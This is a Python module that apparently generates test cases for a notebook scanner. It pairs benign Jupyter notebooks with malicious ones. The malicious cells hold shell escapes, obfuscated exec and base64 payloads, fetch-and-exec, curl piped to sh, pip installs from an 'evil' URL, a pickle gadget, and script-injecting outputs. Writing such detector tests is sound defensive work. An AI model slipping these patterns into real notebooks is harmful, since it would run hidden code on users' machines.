"""Notebooks: cells that call the shell or fetch code, and outputs that are programs."""

from __future__ import annotations

import json
from collections.abc import Iterator

from bench.corpus.case import CODE, COMMAND, Case, fail, good

_LOADER, _NONE = "notebook by hand", "none"


def _cell(
    source: str, kind: str = "code", outputs: list[object] | None = None
) -> dict[str, object]:
    cell: dict[str, object] = {
        "cell_type": kind,
        "metadata": {},
        "source": source.splitlines(keepends=True),
        "id": "a",
    }
    return cell | ({"execution_count": None, "outputs": outputs or []} if kind == "code" else {})


def _notebook(*cells: dict[str, object], **metadata: object) -> bytes:
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return json.dumps(
        {"cells": cells, "metadata": {**kernel, **metadata}, "nbformat": 4, "nbformat_minor": 5},
        indent=1,
    ).encode()


def _honest(seed: int) -> Iterator[Case]:
    train = _cell("total = sum(range(10))\nrows = [[1.0, 2.0], [3.0, 4.0]]\nprint(total)")
    text = _cell("# Training\n\nThis trains a model.", "markdown")
    yield good("train.ipynb", _notebook(text, train), _LOADER)
    output = {"output_type": "stream", "name": "stdout", "text": ["45\n"]}
    yield good("with_output.ipynb", _notebook(text, _cell("print(45)", outputs=[output])), _LOADER)
    shown = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/plain": ["<Figure>"], "image/png": "iVBORw0KGgo="},
    }
    yield good("with_figure.ipynb", _notebook(_cell("figure = 1", outputs=[shown])), _LOADER)
    yield good(
        "imports.ipynb",
        _notebook(
            _cell("import math\nimport statistics as s\n"), _cell("print(math.pi, s.mean([1, 2]))")
        ),
        _LOADER,
    )
    yield good("magic.ipynb", _notebook(_cell("%matplotlib inline"), _cell("x = 1")), _LOADER)


def _bad(seed: int) -> Iterator[Case]:
    quoted = json.dumps(COMMAND)
    cells = {
        "shell": (f"!{COMMAND}", _LOADER),
        "cell_bash": (f"%%bash\n{COMMAND}\n", _LOADER),
        "line_sx": (f"%sx {COMMAND}", _LOADER),
        "os_system": (f"import os\nos.system({quoted})\n", _LOADER),
        "subprocess": (f"import subprocess\nsubprocess.run({quoted}, shell=True)\n", _LOADER),
        "exec": (f"exec({CODE!r})\n", _LOADER),
        "eval_import": ('eval(\'__import__("os").system("true")\')\n', _LOADER),
        "base64": (
            "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgidHJ1ZSIp'))\n",
            _LOADER,
        ),
        "fetch_exec": (
            "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1:9/').read())\n",
            _LOADER,
        ),
        "pickle": ("import pickle\npickle.loads(b\"cos\\nsystem\\n(S'true'\\ntR.\")\n", _LOADER),
        "getattr": ("getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n", _LOADER),
        "pip_url": ("!pip install git+https://example.invalid/evil.git", _LOADER),
        "curl_sh": ("!curl -s http://127.0.0.1:9/x.sh | sh", _LOADER),
        "pip_magic": ("%pip install http://127.0.0.1:9/evil.whl", _NONE),
        "run_magic": ("%run ../evil.py", _NONE),
        "script_magic": ("%%script sh\ntrue\n", _NONE),
        "hidden_in_assignment": ("x = !true\n", _NONE),
        "socket": ("import socket\nsocket.create_connection(('127.0.0.1', 9))\n", _LOADER),
        "ctypes": ("import ctypes\nctypes.CDLL(None).system(b'true')\n", _LOADER),
    }
    for slug, (source, loader) in cells.items():
        data = _notebook(_cell("# A notebook", "markdown"), _cell("x = 1"), _cell(source))
        yield fail(f"{slug}.ipynb", data, f"A cell reaches out: {slug}.", loader)
    script = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"text/html": ["<script>fetch('http://127.0.0.1:9/')</script>"]},
    }
    yield fail(
        "output_script.ipynb",
        _notebook(_cell("x = 1", outputs=[script])),
        "An output is a script for the browser.",
        _NONE,
    )
    code = {
        "output_type": "display_data",
        "metadata": {},
        "data": {"application/javascript": ["Jupyter.notebook.kernel.execute('import os')"]},
    }
    yield fail(
        "output_javascript.ipynb",
        _notebook(_cell("x = 1", outputs=[code])),
        "An output runs a cell.",
        _NONE,
    )
    yield fail(
        "markdown_script.ipynb",
        _notebook(_cell('<img src=x onerror="alert(1)">', "markdown")),
        "A text is a script for the browser.",
        _NONE,
    )
    shell = _notebook(_cell(f"!{COMMAND}"))
    yield fail("named.json", shell, "A cell calls the shell; the name says JSON.", _LOADER)


PARTS = (_honest, _bad)
